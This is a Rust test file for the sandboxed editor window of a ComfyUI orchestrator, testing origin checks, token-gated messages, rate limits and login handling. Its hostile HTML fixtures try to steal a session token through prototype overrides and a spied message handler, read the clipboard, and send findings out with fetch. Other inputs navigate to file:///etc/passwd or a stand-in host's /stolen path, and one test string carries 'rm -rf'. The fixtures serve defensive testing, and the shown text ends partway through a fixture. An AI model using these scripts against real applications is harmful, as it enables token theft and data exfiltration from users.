//! The window of ComfyUI's editor: what it lets a page do, and what passes between it and the app.

use comfyui_orchestrator::editor::message::{
    FromWindow, LineError, PROTOCOL_VERSION, ToWindow, WindowGeometry, read_line, write_line,
};
use comfyui_orchestrator::editor::origin::PageOrigin;
use comfyui_orchestrator::editor::page::{
    Gate, MAX_BYTES, MAX_MESSAGE_BYTES, MAX_MESSAGES, MAX_SAVES, PageMessage, PageRefusal,
};
use serde_json::value::RawValue;
use std::io::BufReader;

fn origin() -> PageOrigin {
    PageOrigin::of(&"http://10.0.0.7:8188/comfy/".parse().unwrap()).unwrap()
}

#[test]
fn a_page_stays_with_its_server() {
    let origin = origin();
    for own in [
        "http://10.0.0.7:8188/",
        "http://10.0.0.7:8188/other?x=1#y",
        "about:blank",
        "about:srcdoc",
    ] {
        assert!(origin.may_load(own), "{own}");
    }
    for foreign in [
        "http://10.0.0.7:8189/",
        "https://10.0.0.7:8188/",
        "http://10.0.0.7.example.org:8188/",
        "http://10.0.0.7:8188@example.org/",
        "http://example.org/http://10.0.0.7:8188/",
        "file:///etc/passwd",
        "data:text/html,<script>1</script>",
        "javascript:alert(1)",
        "blob:http://10.0.0.7:8188/1f",
        "about:config",
        "ftp://10.0.0.7:8188/",
        "",
        "\u{0}",
    ] {
        assert!(!origin.may_load(foreign), "{foreign}");
        assert!(!origin.is_own(foreign), "{foreign}");
    }
    // An empty document may be shown, but nobody speaks for it.
    assert!(!origin.is_own("about:blank"));
    for no_page in [
        "file:///tmp/a.html",
        "data:text/html,x",
        "ws://10.0.0.7:8188/",
    ] {
        assert!(
            PageOrigin::of(&no_page.parse().unwrap()).is_err(),
            "{no_page}"
        );
    }
}

#[test]
fn a_message_counts_only_from_the_main_frame_of_the_server_and_of_a_known_shape() {
    let page = "http://10.0.0.7:8188/";
    let mut gate = Gate::new(origin(), "secret".to_owned());
    let mut now_ms = 0;
    let mut admit = |address: &str, body: &str| {
        now_ms += 1_000;
        gate.admit(address, body, now_ms)
    };
    let loaded = r#"{"token":"secret","message":"loaded"}"#;
    assert!(matches!(admit(page, loaded), Ok(PageMessage::Loaded)));
    assert!(matches!(
        admit("http://evil.example/", loaded),
        Err(PageRefusal::ForeignOrigin(_))
    ));
    for wrong in [
        r#"{"token":"guess","message":"loaded"}"#,
        r#"{"message":"loaded"}"#,
        r#"{"token":"secret","message":"loaded","more":1}"#,
        r#"{"token":"secret","message":{"open_file":{"path":"/etc/passwd"}}}"#,
        r#"{"token":"secret","message":{"save":{"target":"node","workflow":{}}}}"#,
        r#"{"token":"secret","message":{"save":{"target":"../x","workflow":{},"prompt":{}}}}"#,
        "loaded",
        "",
        "[[[[[[",
        "\u{0}",
    ] {
        assert!(
            matches!(admit(page, wrong), Err(PageRefusal::Malformed(_))),
            "{wrong}"
        );
    }
    // A draft is never looked into on the way; who does look refuses such depth.
    let depth = 100_000;
    let draft = format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
    let deep = format!(r#"{{"token":"secret","message":{{"changed":{{"draft":{draft}}}}}}}"#);
    if let Ok(PageMessage::Changed { draft: Some(draft) }) = admit(page, &deep) {
        assert!(comfyui_orchestrator::workflow::read(draft.get().as_bytes()).is_err());
    }
    let huge = format!(
        r#"{{"token":"secret","message":{{"load_failed":{{"text":"{}"}}}}}}"#,
        "x".repeat(MAX_MESSAGE_BYTES)
    );
    assert!(matches!(admit(page, &huge), Err(PageRefusal::TooLarge(_))));
    let save = r#"{"token":"secret","message":{"save":{"target":"node","workflow":{"seed":18446744073709551615},"prompt":{}}}}"#;
    let Ok(PageMessage::Save { workflow, .. }) = admit(page, save) else {
        panic!("a sound save is taken");
    };
    assert_eq!(workflow.get(), r#"{"seed":18446744073709551615}"#);
}

#[test]
fn a_flood_is_cut_off_and_forgiven_after_a_while() {
    let mut gate = Gate::new(origin(), "secret".to_owned());
    let loaded = r#"{"token":"secret","message":"loaded"}"#;
    let admitted = (0..10_000)
        .filter(|_| gate.admit("http://10.0.0.7:8188/", loaded, 5).is_ok())
        .count();
    assert_eq!(admitted, MAX_MESSAGES);
    assert!(gate.admit("http://10.0.0.7:8188/", loaded, 20_000).is_ok());
}

#[test]
fn what_a_page_sends_is_bounded_in_bytes_and_in_saves() {
    let page = "http://10.0.0.7:8188/";
    let mut gate = Gate::new(origin(), "secret".to_owned());
    let draft = format!(
        r#"{{"token":"secret","message":{{"changed":{{"draft":"{}"}}}}}}"#,
        "x".repeat(40 << 20)
    );
    let admitted = (0..20)
        .filter(|_| gate.admit(page, &draft, 5).is_ok())
        .count();
    assert!(
        admitted * draft.len() < MAX_BYTES + draft.len(),
        "{admitted}"
    );
    assert!(matches!(
        gate.admit(page, &draft, 6),
        Err(PageRefusal::Flood)
    ));
    // Slowly, as a person would save at most, and as a page would.
    let save = r#"{"token":"secret","message":{"save":{"target":"new_workflow","workflow":{},"prompt":{}}}}"#;
    let taken = (0..30)
        .filter(|second| gate.admit(page, save, 100_000 + second * 1_000).is_ok())
        .count();
    assert_eq!(taken, MAX_SAVES);
    let loaded = r#"{"token":"secret","message":"loaded"}"#;
    assert!(
        gate.admit(page, loaded, 131_000).is_ok(),
        "others are heard"
    );
    assert!(gate.admit(page, save, 200_000).is_ok());
}

#[test]
fn both_sides_read_what_the_other_wrote_and_refuse_everything_else() {
    let draft = RawValue::from_string("{\n \"nodes\": []\r\n}".to_owned()).unwrap();
    let mut pipe = Vec::new();
    write_line(
        &mut pipe,
        &FromWindow::Hello {
            version: PROTOCOL_VERSION,
        },
    )
    .unwrap();
    write_line(&mut pipe, &FromWindow::Changed { draft: Some(draft) }).unwrap();
    let geometry = WindowGeometry {
        x: -3.5,
        y: 0.0,
        width: 800.0,
        height: 600.0,
    };
    write_line(&mut pipe, &FromWindow::Geometry(geometry)).unwrap();
    assert_eq!(String::from_utf8_lossy(&pipe).lines().count(), 3);

    let mut reader = BufReader::new(pipe.as_slice());
    assert!(matches!(
        read_line(&mut reader).unwrap(),
        Some(FromWindow::Hello {
            version: PROTOCOL_VERSION
        })
    ));
    let Some(FromWindow::Changed { draft: Some(draft) }) = read_line(&mut reader).unwrap() else {
        panic!("the draft comes through");
    };
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(draft.get()).unwrap(),
        serde_json::json!({"nodes": []})
    );
    assert!(matches!(
        read_line(&mut reader).unwrap(),
        Some(FromWindow::Geometry(read)) if read == geometry
    ));
    assert!(read_line::<FromWindow>(&mut reader).unwrap().is_none());

    let mut nonsense = BufReader::new(&b"{\"run\":\"rm -rf\"}\n"[..]);
    assert!(matches!(
        read_line::<ToWindow>(&mut nonsense),
        Err(LineError::Unknown(_))
    ));
}

/// Starts a program that says this on its error stream and ends, and gives what the app hears of it.
#[cfg(unix)]
fn heard_of_a_program_that_ends(
    folder: &std::path::Path,
    last_words: &str,
) -> comfyui_orchestrator::editor::process::EditorEvent {
    use comfyui_orchestrator::editor::message::{Appearance, EditorGraph, OpenWindow};
    use comfyui_orchestrator::editor::process::EditorProcess;
    let program = folder.join("window");
    std::fs::write(folder.join("words"), last_words).unwrap();
    let script = format!(
        "#!/bin/sh\ncat '{}/words' >&2\nexit 127\n",
        folder.display()
    );
    std::fs::write(&program, script).unwrap();
    std::fs::set_permissions(
        &program,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let order = OpenWindow {
        url: "http://127.0.0.1:9/".parse().unwrap(),
        node_title: "Portrait".to_owned(),
        backend_name: "Workstation".to_owned(),
        workflow: EditorGraph::Ui(RawValue::from_string("{}".to_owned()).unwrap()),
        draft: None,
        profile_dir: folder.to_owned(),
        appearance: Appearance::Dark,
        geometry: None,
    };
    let window = EditorProcess::start(&program, order, || {}).unwrap();
    let begin = std::time::Instant::now();
    loop {
        if let Some(event) = window.poll() {
            return event;
        }
        assert!(begin.elapsed().as_secs() < 60, "nothing was heard");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}

#[cfg(unix)]
#[test]
fn a_system_without_the_web_view_is_told_what_to_install() {
    use comfyui_orchestrator::editor::process::{EditorError, EditorEvent};
    let folder = tempfile::tempdir().unwrap();
    // As glibc and musl say it.
    for words in [
        "/opt/o/comfyui-orchestrator-editor: error while loading shared libraries: libwebkit2gtk-4.1.so.0: cannot open shared \
         object file: No such file or directory\n",
        "Error loading shared library libwebkit2gtk-4.1.so.0: No such file or directory (needed by /opt/o/editor)\n\
         Error relocating /opt/o/editor: webkit_web_view_new: symbol not found\n",
    ] {
        let event = heard_of_a_program_that_ends(folder.path(), words);
        let EditorEvent::NotStarted(error) = event else {
            panic!("{event:?}");
        };
        assert_eq!(
            error,
            EditorError::NoLibrary {
                library: "libwebkit2gtk-4.1.so.0".to_owned()
            }
        );
        assert!(error.to_string().contains("WebKitGTK 4.1"), "{error}");
        let remedy = error.remedy().unwrap();
        assert!(
            remedy.contains("apt install libwebkit2gtk-4.1-0"),
            "{remedy}"
        );
    }
    // Any other end says what is known of it.
    let event = heard_of_a_program_that_ends(
        folder.path(),
        "Trace/breakpoint trap\nnote: run with more\n",
    );
    let EditorEvent::NotStarted(error) = event else {
        panic!("{event:?}");
    };
    assert!(
        error.to_string().contains("Trace/breakpoint trap"),
        "{error}"
    );
    assert_eq!(error.remedy(), None);
}

#[cfg(all(feature = "editor", target_os = "linux"))]
pub mod in_a_window {
    use comfyui_orchestrator::editor::message::{
        Appearance, CloseMode, DraftFate, EditorGraph, FromWindow, OpenWindow, SaveAnswer,
        SaveTarget, ToWindow,
    };
    use comfyui_orchestrator::editor::process::{EditorEvent, EditorProcess};
    use serde_json::value::{RawValue, to_raw_value};
    use std::net::SocketAddr;
    use std::path::Path;
    use std::process::{Child, Command, Stdio};
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::{Duration, Instant};

    /// A page that answers to the calls of ComfyUI's `app` that the bar makes, with a graph of one number.
    const FRIENDLY: &str = r#"<!doctype html><body><script>
        let graph = {nodes: [], extra: {ds: {scale: 1}}};
        window.app = {
            graph: {serialize: () => graph},
            loadGraphData: async (loaded) => { graph = structuredClone(loaded); },
            loadApiJson: async (loaded) => { graph = {api: loaded}; },
            graphToPrompt: async () => ({workflow: graph, output: {"1": {class_type: "A", inputs: {}}}}),
        };
        // What a person would do, a while after the workflow was shown.
        setTimeout(() => {
            graph.nodes.push({id: 7, type: "A"});
            window.dispatchEvent(new Event("pointerup"));
        }, 4000);
        setTimeout(() => window.dispatchEvent(new KeyboardEvent("keydown", {key: "s", ctrlKey: true})), 6500);
    </script></body>"#;

    /// A page that tries whatever it can think of. `OTHER` stands for a server of another origin.
    const HOSTILE: &str = r#"<!doctype html><body>
        <iframe src="http://OTHER/frame"></iframe>
        <iframe src="/own_frame"></iframe>
        <textarea></textarea>
        <iframe srcdoc="<script>window.webkit?.messageHandlers?.ipc?.postMessage(JSON.stringify({token:'guess',message:'loaded'}))</script>"></iframe>
        <script>
        // Whatever it finds is told to a path of its own server.
        const tell = (what) => { if (what) fetch("/found?" + encodeURIComponent(String(what).slice(0, 200))); };
        // The bar's own script is among the page's: what it uses of them could be replaced.
        const long = /[0-9a-f]{32}/;
        Object.prototype.toJSON = function () { if (long.test(this?.token)) tell(this.token); return {...this, toJSON: undefined}; };
        const real = window.webkit.messageHandlers.ipc;
        const spy = {messageHandlers: {ipc: {postMessage: (text) => { if (long.test(text)) tell(text); real.postMessage(text); }}}};
        try { Object.defineProperty(window, "webkit", {value: spy}); } catch (error) { /* Not to be had. */ }
        const names = Reflect.ownKeys(window).map((key) => key.description ?? String(key));
        tell(names.filter((name) => /orchestrator-|[0-9a-f]{32}/.test(name)).join());
        const tries = [
            () => tell(/[0-9a-f]{32}/.exec(String(window["comfyui-orchestrator"]))?.[0]),
            () => { window["comfyui-orchestrator"]({type: "close"}); window["comfyui-orchestrator"]({type: "save_answer", state: "kept"}); },
            () => { window["comfyui-orchestrator"] = () => tell("replaced"); delete window["comfyui-orchestrator"]; },
            () => { document.querySelector("textarea").focus(); if (document.execCommand("paste")) tell("it may paste"); },
            () => navigator.clipboard?.readText().then(tell, () => {}),
            () => window.ipc.postMessage(JSON.stringify({message: {changed: {draft: null}}})),
            () => window.ipc.postMessage(JSON.stringify({token: "guess", message: {may_close: {draft: "discard"}}})),
            () => window.ipc.postMessage(JSON.stringify({message: "loaded"})),
            () => window.ipc.postMessage(JSON.stringify({token: "guess", message: {save: {target: "node", workflow: {evil: 1}, prompt: {}}}})),
            () => window.ipc.postMessage("{\"token\":"),
            () => window.ipc.postMessage("x".repeat(70 * 1024 * 1024)),
            () => window.webkit.messageHandlers.ipc.postMessage({an: "object"}),
            () => { location.href = "file:///etc/passwd"; },
            () => { location.href = "http://OTHER/stolen"; },
            () => window.open("http://OTHER/window"),
            () => { const a = document.createElement("a"); a.href = "/download.bin"; a.download = "a"; document.body.append(a); a.click(); },
            () => { for (let i = 0; i < 1000; i++) window.ipc.postMessage("{}"); },
        ];
        tries.forEach((attempt, index) => setTimeout(() => { try { attempt(); } catch (error) {} }, 300 * (index + 1)));
    </script></body>"#;

    /// What the foreign frame runs: the page's window is not the frame's, the message handler may be.
    const FOREIGN_FRAME: &str = r#"<!doctype html><script>
        const say = (text) => { try { window.webkit.messageHandlers.ipc.postMessage(text); } catch (error) {} try { window.ipc.postMessage(text); } catch (error) {} };
        say(JSON.stringify({token: "", message: {save: {target: "node", workflow: {evil: 2}, prompt: {}}}}));
        try { top.location.href = "http://OTHER/stolen"; } catch (error) {}
    </script>"#;

    /// A frame of the page's own origin, as a file that somebody put on the server would be.
    const OWN_FRAME: &str = r#"<!doctype html><script>
        const tell = (what) => { if (what) fetch("/found?" + encodeURIComponent(String(what).slice(0, 200))); };
        const names = (of) => Reflect.ownKeys(of).map((key) => key.description ?? String(key));
        tell([...names(window), ...names(top)].filter((name) => /orchestrator-|[0-9a-f]{32}/.test(name)).join());
        const say = (text) => window.webkit?.messageHandlers?.ipc?.postMessage(text);
        say(JSON.stringify({token: "", message: {save: {target: "new_workflow", workflow: {evil: 3}, prompt: {}}}}));
        try { top["comfyui-orchestrator"]({type: "load", form: "ui", graph: {}, name: "evil"}); } catch (error) {}
    </script>"#;

    /// A display for the test alone.
    pub struct Display {
        server: Child,
        name: String,
    }

    impl Display {
        pub fn start() -> Option<Self> {
            let mut server = Command::new("Xvfb")
                .args(["-displayfd", "1", "-screen", "0", "1280x900x24"])
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .ok()?;
            let mut number = String::new();
            let mut output = std::io::BufReader::new(server.stdout.take()?);
            std::io::BufRead::read_line(&mut output, &mut number).ok()?;
            Some(Self {
                server,
                name: format!(":{}", number.trim()),
            })
        }
    }

    impl Drop for Display {
        fn drop(&mut self) {
            let _ = self.server.kill();
            let _ = self.server.wait();
        }
    }

    /// A server of whatever these routes say.
    async fn serve_routes(router: axum::Router) -> SocketAddr {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, router).await.unwrap() });
        address
    }

    async fn serve(pages: Vec<(&'static str, String)>) -> SocketAddr {
        serve_counting(pages).await.0
    }

    /// A server of some pages, and how often any of them was asked for.
    async fn serve_counting(pages: Vec<(&'static str, String)>) -> (SocketAddr, Arc<AtomicUsize>) {
        use axum::response::Html;
        use axum::routing::get;
        let mut router = axum::Router::new().route(
            "/download.bin",
            get(|| async {
                (
                    [("content-type", "application/octet-stream")],
                    vec![0_u8; 64],
                )
            }),
        );
        let hits = Arc::new(AtomicUsize::new(0));
        for (path, html) in pages {
            let hits = hits.clone();
            let page = move || async move {
                hits.fetch_add(1, Ordering::Relaxed);
                Html(html)
            };
            router = router.route(path, get(page));
        }
        (serve_routes(router).await, hits)
    }

    fn order(address: SocketAddr, profile_dir: &Path, draft: Option<Box<RawValue>>) -> OpenWindow {
        OpenWindow {
            url: format!("http://{address}/").parse().unwrap(),
            node_title: "Portrait".to_owned(),
            backend_name: "Workstation".to_owned(),
            workflow: EditorGraph::Ui(
                RawValue::from_string(
                    r#"{"nodes":[{"id":1}],"extra":{"ds":{"scale":2}}}"#.to_owned(),
                )
                .unwrap(),
            ),
            draft,
            profile_dir: profile_dir.to_owned(),
            appearance: Appearance::Dark,
            geometry: None,
        }
    }

    /// The window's program on this display.
    pub fn window_program(display: &Display, folder: &Path) -> std::path::PathBuf {
        // The window takes its display from the environment of the program that starts it, as in the app: a small shell
        // script gives it this test's own.
        let script = folder.join("window.sh");
        std::fs::write(
            &script,
            format!(
                "#!/bin/sh\nunset WAYLAND_DISPLAY\nDISPLAY={} exec '{}'\n",
                display.name,
                env!("CARGO_BIN_EXE_comfyui-orchestrator-editor")
            ),
        )
        .unwrap();
        std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        script
    }

    fn start(display: &Display, folder: &Path, order: OpenWindow) -> EditorProcess {
        let program = window_program(display, folder);
        EditorProcess::start(&program, order, || {}).unwrap()
    }

    /// Waits for something a window says.
    async fn wait<T>(
        window: &EditorProcess,
        limit: Duration,
        mut wanted: impl FnMut(&EditorEvent) -> Option<T>,
    ) -> Option<T> {
        let start = Instant::now();
        while start.elapsed() < limit {
            while let Some(event) = window.poll() {
                if let Some(found) = wanted(&event) {
                    return Some(found);
                }
            }
            tokio::time::sleep(Duration::from_millis(30)).await;
        }
        None
    }

    const PATIENCE: Duration = Duration::from_secs(90);

    #[tokio::test(flavor = "multi_thread")]
    async fn a_workflow_is_shown_changed_saved_and_the_window_closes() {
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return;
        };
        let folder = tempfile::tempdir().unwrap();
        let address = serve(vec![("/", FRIENDLY.to_owned())]).await;
        let window = start(&display, folder.path(), order(address, folder.path(), None));
        let loaded = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Loaded) => Some(Ok(())),
            EditorEvent::Died(reason) => Some(Err(reason.clone())),
            _ => None,
        })
        .await;
        assert_eq!(loaded, Some(Ok(())), "the page shows the workflow");
        let draft = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Changed { draft: Some(draft) }) => {
                Some(draft.get().to_owned())
            }
            _ => None,
        })
        .await
        .expect("a change is noticed");
        assert!(
            draft.contains("\"id\":1") && draft.contains("\"id\":7"),
            "{draft}"
        );
        let (target, prompt) = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Save(saved)) => {
                Some((saved.target, saved.prompt.get().to_owned()))
            }
            _ => None,
        })
        .await
        .expect("Ctrl+S saves");
        assert_eq!(target, SaveTarget::Node);
        assert!(prompt.contains("class_type"), "{prompt}");
        window.send(ToWindow::SaveAnswer(SaveAnswer::Kept)).unwrap();
        let unchanged = wait(&window, PATIENCE, |event| {
            matches!(
                event,
                EditorEvent::Said(FromWindow::Changed { draft: None })
            )
            .then_some(())
        })
        .await;
        assert!(unchanged.is_some(), "what was kept is no change any more");
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        let fate = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Closed { draft }) => Some(*draft),
            _ => None,
        })
        .await;
        assert_eq!(fate, Some(DraftFate::Discard));
        let ended = wait(&window, PATIENCE, |event| {
            matches!(event, EditorEvent::Ended).then_some(())
        })
        .await;
        assert!(ended.is_some(), "the process ends");
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn the_page_of_a_server_that_asks_who_we_are_is_shown_through_a_door() {
        use comfyui_orchestrator::fleet::{Auth, BackendConfig, Door, Secret};
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return;
        };
        let _ = rustls::crypto::ring::default_provider().install_default();
        let folder = tempfile::tempdir().unwrap();
        // Every test process has this variable; its content is the key.
        let key = std::env::var("PATH").unwrap();
        let router =
            axum::Router::new().fallback(move |headers: axum::http::HeaderMap| async move {
                use axum::response::IntoResponse as _;
                let is_known = headers
                    .get("x-key")
                    .is_some_and(|given| given.as_bytes() == key.as_bytes());
                if is_known {
                    axum::response::Html(FRIENDLY).into_response()
                } else {
                    axum::http::StatusCode::UNAUTHORIZED.into_response()
                }
            });
        let address = serve_routes(router).await;
        let mut config =
            BackendConfig::new("studio", format!("http://{address}/").parse().unwrap());
        config.auth = Auth::Header {
            name: "x-key".to_owned(),
            value: Secret::Env("PATH".to_owned()),
        };
        let door = Door::open(&config, "4f8c2d").await.unwrap();
        let mut order = order(address, folder.path(), None);
        order.url = door.url().clone();
        let window = start(&display, folder.path(), order);
        let loaded = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Loaded) => Some(Ok(())),
            EditorEvent::Said(FromWindow::Notice { text }) => Some(Err(text.clone())),
            EditorEvent::Died(reason) => Some(Err(reason.clone())),
            _ => None,
        })
        .await;
        assert_eq!(loaded, Some(Ok(())), "the page is let in and believed");
    }

    /// A form like those of servers that want a password, and a person who fills it.
    const LOGIN: &str = r#"<!doctype html><body><form method="post" action="/login">
        <input type="password" name="password"><button>Sign in</button></form>
        <script>setTimeout(() => {
            document.querySelector("input").value = "open sesame";
            document.querySelector("form").requestSubmit();
        }, 500);</script></body>"#;

    #[tokio::test(flavor = "multi_thread")]
    async fn a_login_page_of_the_server_itself_is_passed() {
        use axum::http::{HeaderMap, StatusCode, header};
        use axum::response::{Html, IntoResponse as _, Redirect};
        use axum::routing::get;
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return;
        };
        let folder = tempfile::tempdir().unwrap();
        let router = axum::Router::new()
            .route(
                "/",
                get(|headers: HeaderMap| async move {
                    let cookie = headers.get(header::COOKIE);
                    if cookie.is_some_and(|cookie| cookie.as_bytes() == b"session=known") {
                        Html(FRIENDLY).into_response()
                    } else {
                        Redirect::to("/login").into_response()
                    }
                }),
            )
            .route(
                "/login",
                get(|| async { Html(LOGIN) }).post(|body: String| async move {
                    if body == "password=open+sesame" {
                        let cookie = [(header::SET_COOKIE, "session=known; Path=/; HttpOnly")];
                        (cookie, Redirect::to("/")).into_response()
                    } else {
                        StatusCode::FORBIDDEN.into_response()
                    }
                }),
            );
        let address = serve_routes(router).await;
        let window = start(&display, folder.path(), order(address, folder.path(), None));
        let saved = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Save(saved)) => Some(Ok(saved.workflow.get().to_owned())),
            EditorEvent::Said(FromWindow::Notice { text } | FromWindow::Failed { text }) => {
                Some(Err(text.clone()))
            }
            EditorEvent::Died(reason) => Some(Err(reason.clone())),
            _ => None,
        })
        .await
        .expect("the person comes in and saves");
        // The node's own workflow, with what the person added.
        let saved = saved.unwrap();
        assert!(
            saved.contains("\"id\":1") && saved.contains("\"id\":7"),
            "{saved}"
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn a_login_on_another_server_is_refused_by_name() {
        use axum::response::Redirect;
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return;
        };
        let folder = tempfile::tempdir().unwrap();
        let (elsewhere, hits) = serve_counting(vec![("/login", LOGIN.to_owned())]).await;
        let there = format!("http://{elsewhere}/login?secret=of-the-server");
        let router = axum::Router::new().fallback(move || async move { Redirect::to(&there) });
        let address = serve_routes(router).await;
        let window = start(&display, folder.path(), order(address, folder.path(), None));
        let told = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Failed { text }) => Some(Ok(text.clone())),
            EditorEvent::Said(other) => {
                (!matches!(other, FromWindow::Geometry(_))).then(|| Err(format!("{other:?}")))
            }
            EditorEvent::Died(reason) => Some(Err(reason.clone())),
            _ => None,
        })
        .await
        .expect("the window says so")
        .unwrap();
        assert!(
            told.contains(&format!("http://{elsewhere},")) && !told.contains("secret"),
            "{told}"
        );
        assert_eq!(hits.load(Ordering::Relaxed), 0, "it was not even asked");
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn a_page_that_is_loaded_anew_begins_with_what_the_node_has_by_then() {
        use axum::http::StatusCode;
        use axum::response::Html;
        use axum::routing::get;
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return;
        };
        let folder = tempfile::tempdir().unwrap();
        let may_reload = Arc::new(AtomicUsize::new(0));
        let asked = may_reload.clone();
        // The person reloads the page when the node has what was saved, and changes something again.
        let page = FRIENDLY.replace(
            "</script>",
            r#"if (sessionStorage.reloaded) setTimeout(() => graph.nodes.push({id: 8, type: "B"}), 3500);
            else setInterval(async () => {
                if (!(await fetch("/may_reload")).ok) return;
                sessionStorage.reloaded = "yes";
                location.reload();
            }, 300);</script>"#,
        );
        let router = axum::Router::new()
            .route("/", get(|| async { Html(page) }))
            .route(
                "/may_reload",
                get(|| async move {
                    match asked.load(Ordering::Relaxed) {
                        0 => StatusCode::NOT_FOUND,
                        _ => StatusCode::OK,
                    }
                }),
            );
        let address = serve_routes(router).await;
        let window = start(&display, folder.path(), order(address, folder.path(), None));
        let saved = wait(&window, PATIENCE, |event| {
            matches!(event, EditorEvent::Said(FromWindow::Save(_))).then_some(())
        })
        .await;
        assert!(saved.is_some());
        window.send(ToWindow::SaveAnswer(SaveAnswer::Kept)).unwrap();
        let kept = wait(&window, PATIENCE, |event| {
            matches!(
                event,
                EditorEvent::Said(FromWindow::Changed { draft: None })
            )
            .then_some(())
        })
        .await;
        assert!(kept.is_some());
        may_reload.store(1, Ordering::Relaxed);
        let draft = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Changed { draft: Some(draft) }) => {
                let draft = draft.get();
                draft.contains("\"id\":8").then(|| draft.to_owned())
            }
            _ => None,
        })
        .await
        .expect("the change after it");
        assert!(draft.contains("\"id\":7"), "saved before it: {draft}");
    }

    #[test]
    fn the_app_itself_is_not_linked_with_the_web_view() {
        let needed = |program: &str| {
            let listed = Command::new("readelf")
                .args(["-d", program])
                .output()
                .ok()?;
            let listed = String::from_utf8_lossy(&listed.stdout).into_owned();
            let names: Vec<String> = listed
                .lines()
                .filter(|line| line.contains("(NEEDED)"))
                .map(str::to_owned)
                .collect();
            Some(names)
        };
        let (Some(app), Some(window)) = (
            needed(env!("CARGO_BIN_EXE_comfyui-orchestrator")),
            needed(env!("CARGO_BIN_EXE_comfyui-orchestrator-editor")),
        ) else {
            println!("skipped: there is no readelf here");
            return;
        };
        let of_the_web_view = |names: &[String]| -> Vec<String> {
            names
                .iter()
                .filter(|name| {
                    ["webkit", "javascriptcore", "libgtk", "libsoup"]
                        .iter()
                        .any(|part| name.contains(part))
                })
                .cloned()
                .collect()
        };
        assert!(!of_the_web_view(&window).is_empty(), "{window:?}");
        assert!(!app.is_empty(), "readelf lists what the app needs");
        assert!(of_the_web_view(&app).is_empty(), "{app:?}");
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn a_hostile_page_gets_nowhere() {
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return;
        };
        let folder = tempfile::tempdir().unwrap();
        // Both pages name each other's address, so the other server is bound first.
        let (foreign, foreign_hits) = serve_counting(vec![
            ("/frame", FOREIGN_FRAME.to_owned()),
            ("/stolen", "stolen".to_owned()),
            ("/window", "window".to_owned()),
        ])
        .await;
        let hostile = HOSTILE.replace("OTHER", &foreign.to_string());
        let found = Arc::new(std::sync::Mutex::new(Vec::new()));
        let router = {
            use axum::response::Html;
            use axum::routing::get;
            let found = found.clone();
            axum::Router::new()
                .route("/", get(|| async { Html(hostile) }))
                .route("/own_frame", get(|| async { Html(OWN_FRAME) }))
                .route(
                    "/found",
                    get(|uri: axum::http::Uri| async move {
                        found.lock().unwrap().push(uri.to_string());
                    }),
                )
                .route(
                    "/download.bin",
                    get(|| async {
                        let kind = [("content-type", "application/octet-stream")];
                        (kind, vec![0_u8; 64])
                    }),
                )
        };
        let address = serve_routes(router).await;
        let window = start(&display, folder.path(), order(address, folder.path(), None));
        let mut notices = Vec::new();
        let wanted = [
            "/frame",
            "/stolen",
            "A download was refused",
            "bytes from the page was refused",
            "main frame",
            "too many",
        ];
        let over = wait(&window, Duration::from_mins(1), |event| match event {
            EditorEvent::Said(FromWindow::Notice { text }) => {
                notices.push(text.clone());
                // In whichever order: on a busy machine the page's timers come together.
                let told = |words: &&str| notices.iter().any(|notice| notice.contains(*words));
                wanted.iter().all(told).then_some(Ok(()))
            }
            EditorEvent::Said(
                said @ (FromWindow::Save(_) | FromWindow::Loaded | FromWindow::Changed { .. }),
            ) => Some(Err(format!("the page was believed: {said:?}"))),
            EditorEvent::Said(FromWindow::Failed { text }) => Some(Err(text.clone())),
            EditorEvent::Died(reason) => Some(Err(reason.clone())),
            _ => None,
        })
        .await;
        assert_eq!(over, Some(Ok(())), "{notices:#?}");
        // Neither the frame, nor the windows, nor the ways out were loaded, whoever stopped them.
        assert_eq!(foreign_hits.load(Ordering::Relaxed), 0);
        // The token is nowhere, the clipboard is not read, and the bar's channel cannot be taken.
        let found = found.lock().unwrap().clone();
        assert!(found.is_empty(), "{found:?}");
        // It cannot keep the window open either.
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        let fate = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Closed { draft }) => Some(*draft),
            _ => None,
        })
        .await;
        assert!(fate.is_some(), "the window closes without the page's leave");
    }

    /// A page with tabs that does what `/next` says, one deed after the other.
    const OBEDIENT: &str = r#"<!doctype html><body><script>
        let graph = {nodes: [], extra: {ds: {scale: 1}}}, next_id = 100, fails = false;
        const store = {
            activeWorkflow: null, openWorkflows: [],
            closeWorkflow: async (tab) => { store.openWorkflows = store.openWorkflows.filter((open) => open !== tab); },
            getWorkflowByPath: () => null,
        };
        const go = (tab, state) => {
            if (store.activeWorkflow) store.activeWorkflow.activeState = graph;
            graph = structuredClone(state);
            store.activeWorkflow = tab;
